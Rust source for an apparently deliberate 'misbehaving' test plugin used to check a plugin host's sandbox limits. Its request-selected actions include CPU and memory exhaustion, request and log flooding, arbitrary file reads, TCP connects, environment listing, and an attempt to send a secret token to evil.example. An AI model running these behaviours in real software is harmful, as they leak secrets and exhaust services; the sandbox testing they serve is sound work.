//! A plugin that misbehaves in the way given by the request body.

use gassync_plugin::{Adapter, ChannelError, Decoded, HttpRequest, Inbound, http, log, reply_with, signing, state};

/// The plugin.
pub struct Misbehaving;

gassync_plugin::export!(crate::Misbehaving: Inbound);

const MANIFEST: &str = r#"{
    "schemaVersion": 1, "id": "misbehaving", "displayName": "Misbehaving", "version": "0.1.0", "contract": "1.0.0-rc.5",
    "vendor": "GasSync", "hosts": ["setting:baseUrl"],
    "routes": [{"path": "/", "methods": ["POST"], "verification": {"kind": "none"}, "kind": "ack",
        "budgetMillis": 3000, "fallbackResponse": {"status": 202}}],
    "settings": {"properties": {"baseUrl": {"type": "string", "default": "https://allowed.example"}}}
}"#;

impl Adapter for Misbehaving {
    fn manifest() -> String {
        MANIFEST.to_owned()
    }
}

impl Inbound for Misbehaving {
    fn decode(request: HttpRequest) -> Result<Decoded, ChannelError> {
        let body = String::from_utf8(request.body.unwrap_or_default()).unwrap_or_default();
        let (deed, rest) = body.split_once(' ').unwrap_or((&body, ""));
        match deed {
            "spin" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "grow" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(std::hint::black_box(vec![1; 1024 * 1024]));
                }
            }
            "panic" => panic!("as asked"),
            "chatter" => (0..10_000).for_each(|n| log::info(&format!("line {n}"))),
            "flood" => {
                for _ in 0..1_000 {
                    drop(http::Request::get("https://allowed.example/").send());
                }
            }
            // Exceeds the maximum of copied bytes with one text.
            "long" => {
                let long = "x".repeat(rest.parse().unwrap_or_default());
                return Err(ChannelError::Conflict(long));
            }
            "read" => {
                let read = std::fs::read(rest);
                return Err(ChannelError::Conflict(format!("{read:?}")));
            }
            "connect" => {
                let connected = std::net::TcpStream::connect(rest);
                return Err(ChannelError::Conflict(format!("{connected:?}")));
            }
            "folders" => {
                let entries = std::fs::read_dir(".").map(Iterator::count);
                return Err(ChannelError::Conflict(format!("{entries:?}")));
            }
            "hoard" => {
                for number in 0.. {
                    state::set(&format!("{number}"), &"x".repeat(64 * 1024))?;
                }
            }
            "keep" => {
                let kept: u32 = state::get("count")?.unwrap_or_default();
                state::set("count", &(kept + 1))?;
                assert_ne!(rest, "and panic", "as asked");
                if rest == "and fail" {
                    return Err(ChannelError::Conflict("as asked".to_owned()));
                }
            }
            "sign" => {
                let signature = signing::sign(
                    ("misbehaving", "token"),
                    signing::HMAC_SHA256,
                    rest.as_bytes(),
                    &["misbehaving.token"],
                )?;
                return Ok(Decoded {
                    event_id: None,
                    changes: Vec::new(),
                    reply: Some(reply_with(200, "application/octet-stream", signature)),
                });
            }
            // Uses the secret in every possible way, then searches its own memory for it. The request contains the
            // secret with the lowest bit of each byte inverted, so that the plugin can search for it without holding
            // it.
            "hunt" => {
                let wanted: Vec<u8> = rest.bytes().collect();
                let request = http::Request::post_json(
                    "https://allowed.example/{{misbehaving.token}}",
                    "{{misbehaving.token|json}}",
                );
                let request = request.header("authorization", "{{misbehaving.token}}").secret("misbehaving.token");
                let answer = request.body_secret("misbehaving.token").send()?;
                let signature = signing::sign(
                    ("misbehaving", "token"),
                    signing::HMAC_SHA256,
                    b"{{misbehaving.token}}",
                    &["misbehaving.token"],
                )?;
                let refused =
                    http::Request::get("https://evil.example/{{misbehaving.token}}").secret("misbehaving.token").send();
                let found = found_in_memory(&wanted);
                let seen = (answer.body().len(), signature.len(), refused.is_err(), found);
                return Err(ChannelError::Conflict(format!("{seen:?}")));
            }
            "send" => {
                let answer = http::Request::get(rest)
                    .header("x-secret", "{{misbehaving.token}}")
                    .secret("misbehaving.token")
                    .send()?;
                return Err(ChannelError::Conflict(String::from_utf8_lossy(answer.body()).into_owned()));
            }
            "environment" => {
                let names: Vec<String> = std::env::vars().map(|(name, _)| name).collect();
                return Err(ChannelError::Conflict(format!("{names:?}")));
            }
            "remember" => {
                static CALLS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
                let calls = CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                return Err(ChannelError::Conflict(format!("{calls} calls before")));
            }
            _ => {}
        }
        Ok(Decoded { event_id: None, changes: Vec::new(), reply: None })
    }
}

/// Counts a text in this guest's memory, given with the lowest bit of each byte inverted.
fn found_in_memory(turned: &[u8]) -> usize {
    #[cfg(target_arch = "wasm32")]
    let memory = {
        let bytes = core::arch::wasm32::memory_size(0) * 65_536;
        // SAFETY: the slice covers exactly the linear memory, and nothing writes to it meanwhile. It starts at 1,
        // because a slice must not start at address 0.
        #[expect(unsafe_code, reason = "looking through all of memory is what this guest is for")]
        unsafe {
            core::slice::from_raw_parts(core::ptr::with_exposed_provenance::<u8>(1), bytes - 1)
        }
    };
    #[cfg(not(target_arch = "wasm32"))]
    let memory: &[u8] = &[];
    memory.windows(turned.len()).filter(|window| window.iter().zip(turned).all(|(a, b)| *a == b ^ 1)).count()
}
